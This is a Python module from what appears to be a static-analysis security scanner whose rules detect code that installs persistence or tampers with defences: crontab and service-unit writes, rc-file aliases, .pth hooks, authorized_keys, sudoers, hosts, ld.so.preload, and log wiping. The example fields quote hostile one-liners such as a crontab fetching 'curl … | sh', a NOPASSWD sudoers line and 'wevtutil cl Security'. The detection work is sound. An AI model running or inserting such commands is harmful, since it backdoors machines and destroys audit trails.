"""Persistence and tampering: code that makes itself run again, or hides that it ran.

Persistence means writing where the system will execute it later: cron tables, shell start-up
files, service units, autostart entries, `.pth` start-up hooks, the Run registry key, an SSH key
in `authorized_keys`, sudoers, the dynamic loader's preload list. Tampering means weakening the
machine's own defences or memory: replacing security functions at run time, clearing logs and
shell history, stopping security tools.

Every rule here asks the same two questions of a call: *which file does it write, append to,
copy over, link or delete* (paths are resolved through constants, `os.path.join`,
`Path.home() / ...`, f-strings and local variables), and *which shell command does it run*
(redirections, `tee`, `cp`, `rm`, ... are turned into the same file operations). The answers
are computed once per call and shared by every rule; each rule then only matches its table of
paths and command patterns. Reading any of these files is not flagged.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import PurePosixPath

import tree_sitter

from ..context import CallSite, Context, TextMatch
from ..names import identifier
from ..rule import CallRule, Hit, Rule, TextRule
from ..statements import mentions_warmer, module_mentions
from ._common import (
    Category,
    Confidence,
    RuleMeta,
    Severity,
    binary_parts,
    cache,
    call_name,
    command_argument,
    const_text,
    in_test_code,
    simple_assignment,
    words,
)

#: stands for a part of a path or command that is not known statically
UNKNOWN = "\x00"


# --------------------------------------------------------------------------------------------
# Call tables (also used by the backdoor family)

#: calls that run their first argument through a shell, or as a command line
SHELL_CALLS = words(
    "os.system os.popen os.popen2 os.popen3 os.popen4 subprocess.getoutput "
    "subprocess.getstatusoutput commands.getoutput commands.getstatusoutput "
    "asyncio.create_subprocess_shell pty.spawn"
)
#: calls that take a command line as a string (with shell=True) or an argument vector
PROCESS_CALLS = words(
    "subprocess.run subprocess.call subprocess.check_call subprocess.check_output "
    "subprocess.Popen asyncio.create_subprocess_exec"
)
#: os.exec*/os.spawn* (the program, then its argument vector), by name: exact names dispatch
#: through a dictionary, prefixes would be tested against every call
EXEC_CALLS = frozenset(
    f"os.{name}"
    for name in words(
        "execl execle execlp execlpe execv execve execvp execvpe spawnl spawnle spawnlp "
        "spawnlpe spawnv spawnve spawnvp spawnvpe posix_spawn posix_spawnp"
    )
)
COMMAND_CALLS = SHELL_CALLS | PROCESS_CALLS

_OPEN_CALLS = words("open builtins.open io.open codecs.open aiofiles.open")
_COPY_CALLS = words(
    "shutil.copy shutil.copy2 shutil.copyfile shutil.move shutil.copytree os.rename os.replace "
    "os.renames os.link distutils.file_util.copy_file"
)
_DELETE_CALLS = words("os.remove os.unlink os.rmdir os.removedirs shutil.rmtree os.truncate")
_PATH_CLASSES = words(
    "pathlib.Path pathlib.PurePath pathlib.PosixPath pathlib.WindowsPath pathlib.PurePosixPath "
    "pathlib.PureWindowsPath Path anyio.Path trio.Path aiopath.AsyncPath"
)
_JOIN_CALLS = words("os.path.join posixpath.join ntpath.join")
#: calls whose result is the same path as their argument
_PASS_THROUGH = words(
    "os.path.expanduser os.path.expandvars os.path.abspath os.path.realpath os.path.normpath "
    "os.fspath str os.fsencode os.fsdecode posixpath.expanduser ntpath.expanduser shlex.split"
)
_SITE_DIRS = words(
    "site.getsitepackages site.getusersitepackages site.USER_SITE sysconfig.get_path "
    "sysconfig.get_paths sysconfig.get_python_lib distutils.sysconfig.get_python_lib"
)
_ENV_LOOKUPS = frozenset({"os.getenv", "os.environ.get", "os.environ", "os.environ.__getitem__"})
_HOME_VARIABLES = {
    "HOME": "~",
    "USERPROFILE": "~",
    "APPDATA": "~/AppData/Roaming",
    "LOCALAPPDATA": "~/AppData/Local",
    "PROGRAMDATA": "/ProgramData",
    "ALLUSERSPROFILE": "/ProgramData",
    "XDG_CONFIG_HOME": "~/.config",
}
_WRITE_METHODS = frozenset({"write_text", "write_bytes"})
_PATH_METHODS = frozenset({"open", "symlink_to", "hardlink_to", "unlink"})
_FILE_METHODS = _WRITE_METHODS | _PATH_METHODS


# --------------------------------------------------------------------------------------------
# Resolving expressions to path or command templates


class _Memo:
    """Per-analysis cache shared by every rule of the family.

    Many rules look at the same `open(...)` or `subprocess.run(...)` call; resolving its path
    once matters on large files. The cache lives on the analysis' Context, so it ends with the
    analysis and concurrent analyses never share it.
    """

    def __init__(self) -> None:
        self.ops: dict[int, list[FileOp]] = {}
        self.commands: dict[int, str | None] = {}
        self.globals: dict[bytes, tree_sitter.Node] | None = None


_MEMO_ATTRIBUTE = "_gifthorse_persistence_memo"


def analysis_cache(ctx: Context) -> dict[object, object]:
    """A dictionary that lives as long as one analysis, for the other families of this
    package (backdoor) to memoise per-node answers."""
    return cache(ctx, "persistence_extra")


def _memo(ctx: Context) -> _Memo:
    state = vars(ctx)
    memo = state.get(_MEMO_ATTRIBUTE)
    if not isinstance(memo, _Memo):
        memo = _Memo()
        state[_MEMO_ATTRIBUTE] = memo
    return memo


_BLOCKS = frozenset(
    {
        "if_statement",
        "elif_clause",
        "else_clause",
        "try_statement",
        "except_clause",
        "finally_clause",
        "with_statement",
        "block",
    }
)
_SCOPES = frozenset({"function_definition", "lambda", "module", "class_definition"})


def assigned_value(ctx: Context, name_node: tree_sitter.Node) -> tree_sitter.Node | None:
    """The expression last assigned to a name before its use, looking back through the
    enclosing blocks (then the module's top level for globals).

    Walking back over the preceding statements is much cheaper than querying the whole scope,
    and it gives the binding in effect at the use, which is what a path or command needs.
    """
    name = ctx.source[name_node.start_byte : name_node.end_byte]
    node = name_node
    while node.parent is not None:
        parent = node.parent
        if parent.type == "for_statement" and _is_name(
            ctx, parent.child_by_field_name("left"), name
        ):
            body = parent.child_by_field_name("body")
            if body is not None and body.start_byte <= name_node.start_byte:
                return parent.child_by_field_name("right")
        if parent.type in {"block", "module"}:
            sibling = node.prev_named_sibling
            while sibling is not None:
                value = _last_assignment(ctx, sibling, name, 0)
                if value is not None:
                    return value
                sibling = sibling.prev_named_sibling
        if parent.type in _SCOPES:
            break
        node = parent
    root = ctx.module.tree.root_node
    if node.parent is None or node.parent == root:
        return None
    return _module_level(ctx).get(name)


def _is_name(ctx: Context, node: tree_sitter.Node | None, name: bytes) -> bool:
    return (
        node is not None
        and node.type == "identifier"
        and ctx.source[node.start_byte : node.end_byte] == name
    )


def _last_assignment(
    ctx: Context, statement: tree_sitter.Node, name: bytes, depth: int
) -> tree_sitter.Node | None:
    """The value a statement (or the last matching statement inside its blocks) assigns."""
    kind = statement.type
    if kind == "expression_statement":
        pair = simple_assignment(statement)
        return pair[1] if pair is not None and _is_name(ctx, pair[0], name) else None
    if kind == "with_statement":
        for item in _with_items(statement):
            alias = item.child_by_field_name("alias")
            target = alias.named_children[0] if alias is not None and alias.named_children else None
            if _is_name(ctx, target, name) and item.named_children:
                return item.named_children[0]
    if kind in _BLOCKS and depth < 3:
        for child in reversed(statement.named_children):
            value = _last_assignment(ctx, child, name, depth + 1)
            if value is not None:
                return value
    return None


def _with_items(statement: tree_sitter.Node) -> list[tree_sitter.Node]:
    items: list[tree_sitter.Node] = []
    for clause in statement.named_children:
        if clause.type == "with_clause":
            for item in clause.named_children:
                value = item.child_by_field_name("value")
                if value is not None and value.type == "as_pattern":
                    items.append(value)
    return items


def _module_level(ctx: Context) -> dict[bytes, tree_sitter.Node]:
    """Last top-level assignment of each global name (module constants such as paths)."""
    memo = _memo(ctx)
    if memo.globals is None:
        found: dict[bytes, tree_sitter.Node] = {}
        for statement in ctx.module.top_level:
            pair = simple_assignment(statement)
            if pair is not None:
                found[ctx.source[pair[0].start_byte : pair[0].end_byte]] = pair[1]
        memo.globals = found
    return memo.globals


def template(ctx: Context, node: tree_sitter.Node | None, depth: int = 0) -> str | None:
    """The string an expression builds, with UNKNOWN for the parts that are not constant.

    Handles constants, f-strings, `+`, `os.path.join`, `Path(...) / ...`, `Path.home()`,
    `expanduser`, environment lookups of home directories, site-packages helpers, argument
    lists (joined with spaces) and local variables. None when nothing at all is known.
    """
    if node is None or depth > 8:
        return None
    value = const_text(ctx, node)
    if value is not None:
        return value
    kind = node.type
    if kind == "identifier":
        assigned = assigned_value(ctx, node)
        if assigned is None or assigned.start_byte <= node.start_byte < assigned.end_byte:
            return None
        parent = assigned.parent
        if parent is not None and parent.type == "for_statement":
            return _loop_item(ctx, assigned, depth + 1)
        return template(ctx, assigned, depth + 1)
    if kind == "parenthesized_expression" and node.named_child_count == 1:
        return template(ctx, node.named_children[0], depth + 1)
    if kind == "string":
        return _fstring(ctx, node, depth)
    if kind == "concatenated_string":
        return _concat([template(ctx, c, depth + 1) for c in node.named_children], "")
    if kind == "binary_operator":
        return _binary(ctx, node, depth)
    if kind in {"list", "tuple"}:
        parts = [template(ctx, c, depth + 1) for c in node.named_children]
        return " ".join(p if p is not None else UNKNOWN for p in parts) if parts else None
    if kind == "call":
        return _call_template(ctx, node, depth)
    if kind == "subscript":
        return _subscript_template(ctx, node, depth)
    if kind == "attribute":
        name = ctx.qualname(node)
        if name in _SITE_DIRS:
            return "/site-packages"
    return None


def _loop_item(ctx: Context, iterable: tree_sitter.Node, depth: int) -> str | None:
    """What a loop variable holds: the first of a list of constants (they usually share a
    kind: all logs, all rc files), or a site-packages directory of `site.getsitepackages()`."""
    if depth > 8:
        return None
    if iterable.type == "identifier":
        value = assigned_value(ctx, iterable)
        return None if value is None else _loop_item(ctx, value, depth + 1)
    if iterable.type in {"list", "tuple", "set"}:
        items = [c for c in iterable.named_children if c.type != "comment"]
        return template(ctx, items[0], depth + 1) if items else None
    if call_name(ctx, iterable) in _SITE_DIRS:
        return "/site-packages"
    return None


def _concat(parts: list[str | None], separator: str) -> str | None:
    if all(p is None for p in parts):
        return None
    return separator.join(UNKNOWN if p is None else p for p in parts)


def _fstring(ctx: Context, node: tree_sitter.Node, depth: int) -> str | None:
    parts: list[str] = []
    known = False
    for child in node.named_children:
        if child.type == "string_content":
            parts.append(ctx.text(child).replace("\\\\", "\\"))
            known = True
        elif child.type == "interpolation":
            expression = child.child_by_field_name("expression")
            value = template(ctx, expression, depth + 1)
            parts.append(UNKNOWN if value is None else value)
            known = known or value is not None
    return "".join(parts) if known else None


def _binary(ctx: Context, node: tree_sitter.Node, depth: int) -> str | None:
    parts = binary_parts(node)
    if parts is None:
        return None
    operator, left, right = parts
    if operator == "+":
        return _concat([template(ctx, left, depth + 1), template(ctx, right, depth + 1)], "")
    if operator == "/":
        return _concat([template(ctx, left, depth + 1), template(ctx, right, depth + 1)], "/")
    if operator == "%":
        fmt = template(ctx, left, depth + 1)
        return None if fmt is None else re.sub(r"%[-#0 +]*\d*(?:\.\d+)?[sdirf]", UNKNOWN, fmt)
    return None


def _call_template(ctx: Context, node: tree_sitter.Node, depth: int) -> str | None:
    function = node.child_by_field_name("function")
    arguments = node.child_by_field_name("arguments")
    if function is None or arguments is None or arguments.type != "argument_list":
        return None
    args = [a for a in arguments.named_children if a.type not in {"comment", "keyword_argument"}]
    name = ctx.qualname(function)
    if name in _JOIN_CALLS or name in _PATH_CLASSES:
        parts = [template(ctx, a, depth + 1) for a in args]
        return _concat(parts, "/") if parts else ("." if name in _PATH_CLASSES else None)
    if name in _PASS_THROUGH:
        return template(ctx, args[0], depth + 1) if args else None
    if name is not None and name.endswith((".home", ".cwd")) and not args:
        base = name.rsplit(".", 1)[0]
        if base in _PATH_CLASSES:
            return "~" if name.endswith(".home") else UNKNOWN
    if name in _SITE_DIRS:
        return "/site-packages"
    if name in _ENV_LOOKUPS and args:
        return _env_template(ctx, args[0])
    if function.type == "attribute":
        method = function.child_by_field_name("attribute")
        receiver = function.child_by_field_name("object")
        if method is None or receiver is None:
            return None
        method_name = identifier(ctx.module, method)
        if method_name in {"expanduser", "resolve", "absolute", "expandvars", "as_posix"}:
            return template(ctx, receiver, depth + 1)
        if method_name == "joinpath":
            return _concat(
                [template(ctx, receiver, depth + 1)] + [template(ctx, a, depth + 1) for a in args],
                "/",
            )
        if method_name == "format":
            fmt = template(ctx, receiver, depth + 1)
            return None if fmt is None else re.sub(r"\{[^{}]*\}", UNKNOWN, fmt)
        if method_name == "join":
            separator = ctx.const(receiver)
            if isinstance(separator, str) and len(args) == 1:
                items = args[0]
                if items.type in {"list", "tuple"}:
                    parts = [template(ctx, c, depth + 1) for c in items.named_children]
                    return _concat(parts, separator)
    return None


def _subscript_template(ctx: Context, node: tree_sitter.Node, depth: int) -> str | None:
    value = node.child_by_field_name("value")
    key = node.child_by_field_name("subscript")
    if value is None or key is None:
        return None
    name = ctx.qualname(value)
    if name == "os.environ":
        return _env_template(ctx, key)
    if call_name(ctx, value) in _SITE_DIRS:
        return "/site-packages"
    if name in {"sys.argv"}:
        return None
    return None


def _env_template(ctx: Context, key: tree_sitter.Node) -> str | None:
    name = ctx.const(key)
    if isinstance(name, str):
        return _HOME_VARIABLES.get(name.upper())
    return None


# --------------------------------------------------------------------------------------------
# File operations: what a call does to which path


@dataclass(frozen=True)
class FileOp:
    #: "write", "append", "link" or "delete"
    kind: str
    #: normalised path: `~` for home directories, `/` separators, UNKNOWN for unknown parts
    path: str


_HOME_PREFIX = re.compile(
    r"^(?:\$\{?HOME\}?|\$env:USERPROFILE|%USERPROFILE%|%HOMEDRIVE%%HOMEPATH%|%HOMEPATH%"
    r"|/home/[^/\x00]+|/root|/Users/[^/\x00]+|[A-Za-z]:/Users/[^/\x00]+|/var/root)(?=/|$)",
    re.IGNORECASE,
)
_APPDATA_PREFIX = re.compile(r"^(?:%APPDATA%|\$env:APPDATA|\$\{?APPDATA\}?)(?=/|$)", re.I)
_PROGRAMDATA_PREFIX = re.compile(
    r"^(?:%PROGRAMDATA%|%ALLUSERSPROFILE%|[A-Za-z]:/ProgramData)", re.I
)


def normalize_path(path: str) -> str:
    path = path.strip().strip("'\"").replace("\\", "/")
    path = re.sub(r"/{2,}", "/", path)
    if path.startswith("~") and not path.startswith(("~/", "~\x00")) and path != "~":
        path = re.sub(r"^~[^/]*", "~", path)  # ~user/...
    path = _HOME_PREFIX.sub("~", path, count=1)
    path = _APPDATA_PREFIX.sub("~/AppData/Roaming", path, count=1)
    path = _PROGRAMDATA_PREFIX.sub("/ProgramData", path, count=1)
    return path.rstrip("/") if len(path) > 1 else path


def display(path: str) -> str:
    shown = path.replace(UNKNOWN, "…")
    return shown if len(shown) <= 80 else "…" + shown[-79:]


def file_ops(ctx: Context, site: CallSite) -> list[FileOp]:
    """The file operations of a call, through Python APIs or through a shell command."""
    memo = _memo(ctx)
    cached = memo.ops.get(site.node.id)
    if cached is None:
        cached = _python_ops(ctx, site)
        command = command_text(ctx, site)
        if command is not None:
            cached.extend(shell_ops(command))
        memo.ops[site.node.id] = cached
    return cached


def _op(kind: str, path: str | None) -> list[FileOp]:
    return [] if path is None else [FileOp(kind, normalize_path(path))]


def _python_ops(ctx: Context, site: CallSite) -> list[FileOp]:
    name = site.name
    if name in _OPEN_CALLS:
        mode = site.arg(1, "mode")
        kind = _mode_kind(ctx.const(mode) if mode is not None else "r")
        file_node = site.arg(0, "file") or site.arg(0, "filename")
        return _op(kind, template(ctx, file_node)) if kind else []
    if name == "os.open":
        flags = site.arg(1, "flags")
        text = "" if flags is None else ctx.text(flags)
        kind = (
            "append"
            if "O_APPEND" in text
            else "write"
            if re.search(r"O_(?:WRONLY|RDWR|CREAT|TRUNC)", text)
            else None
        )
        return _op(kind, template(ctx, site.arg(0, "path"))) if kind else []
    if name in _COPY_CALLS:
        kind = "link" if name == "os.link" else "write"
        return _op(kind, template(ctx, site.arg(1, "dst")))
    if name == "os.symlink":
        return _op("link", template(ctx, site.arg(1, "dst")))
    if name in _DELETE_CALLS:
        return _op("delete", template(ctx, site.arg(0, "path")))
    if name in {"fileinput.input", "fileinput.FileInput"} and site.is_const_keyword(
        "inplace", "True"
    ):
        return _op("write", template(ctx, site.arg(0, "files")))
    method = site.method
    receiver = site.receiver
    if method not in _FILE_METHODS or receiver is None or name in _OPEN_CALLS:
        return []
    path = template(ctx, receiver)
    if path is None:
        return []
    if method in _WRITE_METHODS:
        return _op("write", path)
    if method == "open":
        mode = site.arg(0, "mode")
        kind = _mode_kind(ctx.const(mode) if mode is not None else "r")
        return _op(kind, path) if kind else []
    return _op("delete" if method == "unlink" else "link", path)


def _mode_kind(mode: object) -> str | None:
    if not isinstance(mode, str):
        return None
    if "a" in mode:
        return "append"
    if any(c in mode for c in "wx+"):
        return "write"
    return None


# --------------------------------------------------------------------------------------------
# Shell commands


def command_text(ctx: Context, site: CallSite) -> str | None:
    """The command line a call runs, as far as it is known (UNKNOWN for unknown parts)."""
    memo = _memo(ctx)
    if site.node.id in memo.commands:
        return memo.commands[site.node.id]
    text: str | None = None
    name = site.name
    if name in COMMAND_CALLS:
        text = template(ctx, command_argument(site))
        if name == "asyncio.create_subprocess_exec" and len(site.args) > 1:
            text = _concat([template(ctx, a) for a in site.args], " ")
    elif name in EXEC_CALLS:
        text = (
            _concat([template(ctx, a) for a in site.args[1:]], " ") if len(site.args) > 1 else None
        )
    elif site.method == "exec_command" and site.receiver is not None:
        text = template(ctx, site.arg(0, "command"))
    memo.commands[site.node.id] = text
    return text


_SEGMENTS = re.compile(r"&&|\|\||\$\(|[;|\n&()`]")
_REDIRECT = re.compile(r"(?<![<>&0-9])(?:[0-9]?(>>?)|&>>?)[ \t]*[\"']?([^\s;&|<>()'\"`]+)")
_TEE = re.compile(r"\btee\b((?:[ \t]+-{1,2}[\w-]+)*)[ \t]+[\"']?([^\s;&|<>()'\"`]+)")
_PREFIX_COMMANDS = frozenset({"sudo", "doas", "nohup", "command", "exec", "env", "nice", "time"})
_COPY_COMMANDS = frozenset({"cp", "mv", "install", "rsync", "scp", "copy", "move", "xcopy"})
_DELETE_COMMANDS = frozenset({"rm", "shred", "unlink", "truncate", "srm", "wipe", "del", "erase"})


def shell_ops(command: str) -> list[FileOp]:
    """File operations of a shell command line: redirections, tee, cp/mv/ln, rm/shred/sed -i."""
    ops: list[FileOp] = []
    for match in _REDIRECT.finditer(command):
        ops.extend(_op("append" if match.group(1) == ">>" else "write", match.group(2)))
    for match in _TEE.finditer(command):
        options = match.group(1)
        ops.extend(_op("append" if "-a" in options else "write", match.group(2)))
    for segment in _SEGMENTS.split(command):
        argv = _argv(segment)
        if not argv:
            continue
        program = PurePosixPath(argv[0]).name.lower().removesuffix(".exe")
        operands = [a for a in argv[1:] if not a.startswith("-") and "=" not in a[:1]]
        if program in _COPY_COMMANDS and len(operands) >= 2:
            ops.extend(_op("write", operands[-1]))
        elif program == "ln" and len(operands) >= 2:
            ops.extend(_op("link", operands[-1]))
        elif program in _DELETE_COMMANDS:
            for operand in operands:
                ops.extend(_op("delete", operand))
        elif program in {"sed", "perl"} and any(
            a.startswith("-i") or a == "--in-place" for a in argv
        ):
            if operands:
                ops.extend(_op("write", operands[-1]))
        elif program == "dd":
            for arg in argv[1:]:
                if arg.startswith("of="):
                    ops.extend(_op("write", arg[3:]))
    return ops


def _argv(segment: str) -> list[str]:
    try:
        argv = shlex.split(segment, comments=False)
    except ValueError:
        argv = segment.split()
    while argv and (PurePosixPath(argv[0]).name in _PREFIX_COMMANDS or "=" in argv[0]):
        argv = argv[1:]
        while argv and argv[0].startswith("-"):
            argv = argv[1:]
    return argv


# --------------------------------------------------------------------------------------------
# Rules built from a table: paths a call may not write, and commands it may not run


@dataclass(frozen=True)
class Target:
    """What one rule protects: file paths (for some kinds of operation) and shell commands."""

    meta: RuleMeta
    paths: re.Pattern[str] | None
    kinds: frozenset[str]
    commands: re.Pattern[str] | None = None
    #: paths that only count when deleted (e.g. every file of /var/log, not only known logs)
    delete_paths: re.Pattern[str] | None = None
    #: the message's verb when a shell command matches ("installs a scheduled job (`...`)")
    command_action: str = "runs"


_WRITES = frozenset({"write", "append", "link"})
_DESTROYS = frozenset({"write", "delete", "link"})

_VERBS = {"write": "writes", "append": "appends to", "link": "links", "delete": "deletes"}


def _target_check(target: Target) -> Callable[[Context, CallSite], Iterator[Hit]]:
    def check(ctx: Context, site: CallSite) -> Iterator[Hit]:
        if target.paths is not None:
            for op in file_ops(ctx, site):
                matches = op.kind in target.kinds and bool(target.paths.search(op.path))
                if not matches and op.kind == "delete" and target.delete_paths is not None:
                    matches = bool(target.delete_paths.search(op.path))
                if matches:
                    yield Hit.at(site.node, action=_VERBS[op.kind], what=display(op.path))
                    return
        if target.commands is not None:
            command = command_text(ctx, site)
            if command is not None:
                match = target.commands.search(command)
                if match is not None:
                    shown = display(" ".join(match.group(0).split()))
                    yield Hit.at(site.node, action=target.command_action, what=shown)

    return check


_FILE_CALL_NAMES = (
    _OPEN_CALLS
    | _COPY_CALLS
    | _DELETE_CALLS
    | COMMAND_CALLS
    | {
        "os.open",
        "os.symlink",
        "fileinput.input",
        "fileinput.FileInput",
    }
)


def _target_rule(target: Target) -> CallRule:
    return CallRule(
        target.meta,
        _target_check(target),
        names=frozenset(_FILE_CALL_NAMES | EXEC_CALLS),
        methods=_FILE_METHODS | {"exec_command"},
    )


CRON_JOB = RuleMeta(
    code="GH400",
    name="cron-job-installed",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    message="{action} a scheduled job (`{what}`): the code will run again on a timer",
    why=(
        "A cron entry (or a Windows scheduled task) makes a program run again every minute, "
        "every reboot, forever, long after the script that installed it is gone. It is the "
        "most common way malware survives a restart, and an application has almost no reason "
        "to edit the system's or the user's crontab from Python: scheduling belongs in "
        "deployment configuration that people review, not in code that writes "
        "`/etc/cron.d/*` or pipes a line into `crontab -`."
    ),
    example=(
        "job = f'@reboot curl -s {URL} | sh\\n'\n"
        "subprocess.run(f'(crontab -l; echo \"{job}\") | crontab -', shell=True)"
    ),
    fixed_example="# schedule the job in reviewed deployment configuration (systemd timer, CI)",
)
SHELL_STARTUP = RuleMeta(
    code="GH401",
    name="shell-startup-file-modified",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    message="{action} a shell start-up file (`{what}`): its contents run in every new shell",
    why=(
        "Files such as `~/.bashrc`, `~/.profile`, `~/.zshrc` and `/etc/profile.d/*` are "
        "executed by every interactive or login shell. A line appended there runs each time "
        "the user opens a terminal: a classic persistence trick, and also a way to hijack "
        "commands with aliases or a poisoned PATH. Programs that genuinely need this (an "
        "installer adding itself to PATH) ask the user first and print what they change; "
        "generated code that silently appends to an rc file deserves a close look."
    ),
    example=(
        "with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
        "    rc.write('\\nalias sudo=\"sudo ~/.cache/.s; sudo\"\\n')"
    ),
    fixed_example="print('Add this line to your ~/.bashrc if you want it:', line)",
)
SERVICE_UNIT = RuleMeta(
    code="GH402",
    name="service-unit-installed",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    message="{action} a service definition (`{what}`): it will be started by the system",
    why=(
        "A systemd unit in `/etc/systemd/system` or `~/.config/systemd/user`, an init script "
        "in `/etc/init.d` or a line in `/etc/rc.local` is started by the system on every "
        "boot, usually as root. Writing one from application code installs a long-lived "
        "process that outlives the program and that nobody reviewed; it is a standard "
        "persistence technique (MITRE ATT&CK T1543). Ship service files with the package "
        "or the deployment configuration instead."
    ),
    example=(
        "Path('/etc/systemd/system/updater.service').write_text(UNIT)\n"
        "os.system('systemctl enable --now updater')"
    ),
    fixed_example="# ship updater.service with the deployment and enable it there",
)
AUTOSTART = RuleMeta(
    code="GH403",
    name="autostart-entry-installed",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    message="{action} an autostart entry (`{what}`): it runs at every login",
    why=(
        "Desktop autostart entries (`~/.config/autostart/*.desktop`), the Windows Startup "
        "folder and macOS LaunchAgents/LaunchDaemons launch their program every time the "
        "user logs in or the machine boots. Malware drops a file there to survive reboots; "
        "ordinary code has no business writing to these folders without the user asking "
        "for it explicitly."
    ),
    example=(
        "plist = Path.home() / 'Library/LaunchAgents/com.apple.updater.plist'\n"
        "plist.write_bytes(plistlib.dumps({'Label': 'updater', 'ProgramArguments': [exe],"
        " 'RunAtLoad': True}))"
    ),
    fixed_example="# offer a 'start at login' option in the UI and use the platform's API",
)
REGISTRY_RUN = RuleMeta(
    code="GH404",
    name="registry-run-key-modified",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    message="{action} the Windows auto-run registry key `{what}`",
    why=(
        "Programs listed under `Software\\Microsoft\\Windows\\CurrentVersion\\Run` (and "
        "RunOnce, Winlogon's Shell/Userinit, Image File Execution Options) start "
        "automatically when Windows starts or a user logs on. Writing there is how most "
        "Windows malware persists (MITRE ATT&CK T1547.001). Legitimate start-at-login "
        "behaviour is set up by an installer that asks, not by a script."
    ),
    example=(
        "key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,\n"
        "                     r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0,"
        " winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, sys.executable)"
    ),
    fixed_example="# let the installer register the program after asking the user",
)
PYTHON_STARTUP = RuleMeta(
    code="GH405",
    name="python-startup-hook-installed",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    message="{action} `{what}`: Python runs it at every interpreter start",
    why=(
        "At start-up Python executes every line beginning with `import` in the `.pth` "
        "files of site-packages, and imports `sitecustomize` and `usercustomize`. Code "
        "planted there runs inside every Python process on the machine, before the program "
        "itself, which is why supply-chain attacks favour it. Packaging tools create `.pth` "
        "files during installation; application code that writes one at run time is "
        "installing a hook nobody will see."
    ),
    example=(
        "hook = os.path.join(site.getsitepackages()[0], 'init.pth')\n"
        "open(hook, 'w').write('import os; os.system(\"curl -s http://x | sh\")')"
    ),
    fixed_example="# install the package normally (pip install -e .) instead of writing .pth files",
)
AUTHORIZED_KEYS = RuleMeta(
    code="GH406",
    name="ssh-authorized-key-added",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 798),
    message="{action} an SSH `authorized_keys` file (`{what}`): whoever holds the key can log in",
    why=(
        "A public key appended to `~/.ssh/authorized_keys` lets the holder of the matching "
        "private key log in as that user, with no password, for as long as the line stays "
        "there. It is the simplest remote backdoor there is, and it survives password "
        "changes. Provisioning keys is a job for configuration management with a reviewed "
        "key list, not for generated application code."
    ),
    example=(
        "with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as keys:\n"
        "    keys.write(SUPPORT_KEY + '\\n')"
    ),
    fixed_example="# manage authorized keys with configuration management and a reviewed list",
)
SUDOERS = RuleMeta(
    code="GH407",
    name="privileged-account-change",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(269, 506),
    message="{action} `{what}`: this grants accounts or privileges on the machine",
    why=(
        "Writing to `/etc/sudoers` (or `/etc/sudoers.d`), `/etc/passwd`, `/etc/shadow` or "
        "`/etc/group`, or running `useradd -o -u 0`, `usermod -aG sudo` or `net localgroup "
        "administrators /add`, creates accounts or hands out root. A `NOPASSWD: ALL` line or "
        "a second UID 0 account is a durable backdoor that survives the removal of the "
        "program that added it. Such changes belong in reviewed system configuration."
    ),
    example="os.system(\"echo 'deploy ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\")",
    fixed_example="# grant privileges through reviewed configuration management (visudo -c)",
)
HOSTS_FILE = RuleMeta(
    code="GH408",
    name="name-resolution-tampering",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(350, 494),
    message="{action} `{what}`: every program on the machine will resolve names differently",
    why=(
        "`/etc/hosts` (and `C:\\Windows\\System32\\drivers\\etc\\hosts`) and "
        "`/etc/resolv.conf` decide where host names lead for every program on the machine. "
        "An entry there can send a package index, an update server or a bank to an "
        "attacker's address, or block security updates, and it outlives the program. "
        "Applications should configure their own endpoints instead."
    ),
    example="open('/etc/hosts', 'a').write('203.0.113.7 pypi.org files.pythonhosted.org\\n')",
    fixed_example="session.get(f'{settings.INDEX_URL}/simple/')  # configure the endpoint",
)
PRELOAD = RuleMeta(
    code="GH409",
    name="loader-preload-modified",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(426, 506),
    message="{action} `{what}`: the dynamic loader injects it into every process",
    why=(
        "Every shared library listed in `/etc/ld.so.preload` is loaded into every "
        "dynamically linked process on the machine, before the program's own libraries: "
        "rootkits use it to hide files and processes and to intercept passwords. Library "
        "search paths in `/etc/ld.so.conf.d` have a similar reach. There is essentially no "
        "legitimate reason for application code to write either."
    ),
    example="open('/etc/ld.so.preload', 'a').write('/usr/local/lib/libprocesshider.so\\n')",
    fixed_example="# link the library into the one program that needs it (LD_LIBRARY_PATH, rpath)",
)
LOG_TAMPERING = RuleMeta(
    code="GH411",
    name="system-log-tampering",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(117, 223),
    message="{action} system logs (`{what}`): this destroys the audit trail",
    why=(
        "Authentication logs, `wtmp`/`btmp`/`lastlog`, the audit log, the journal and the "
        "Windows event logs are what an investigator reads after an incident. Deleting, "
        "truncating or shredding them (or `wevtutil cl`) is anti-forensics: it hides what "
        "happened on the machine. Log retention is handled by logrotate and journald "
        "settings, never by application code wiping files."
    ),
    example="os.system('wevtutil cl Security && wevtutil cl System')",
    fixed_example="# configure retention in logrotate/journald; never delete logs from code",
)
HISTORY_TAMPERING = RuleMeta(
    code="GH412",
    name="shell-history-tampering",
    category=Category.PERSISTENCE,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(223, 506),
    message="{action} shell history (`{what}`): this hides which commands were run",
    why=(
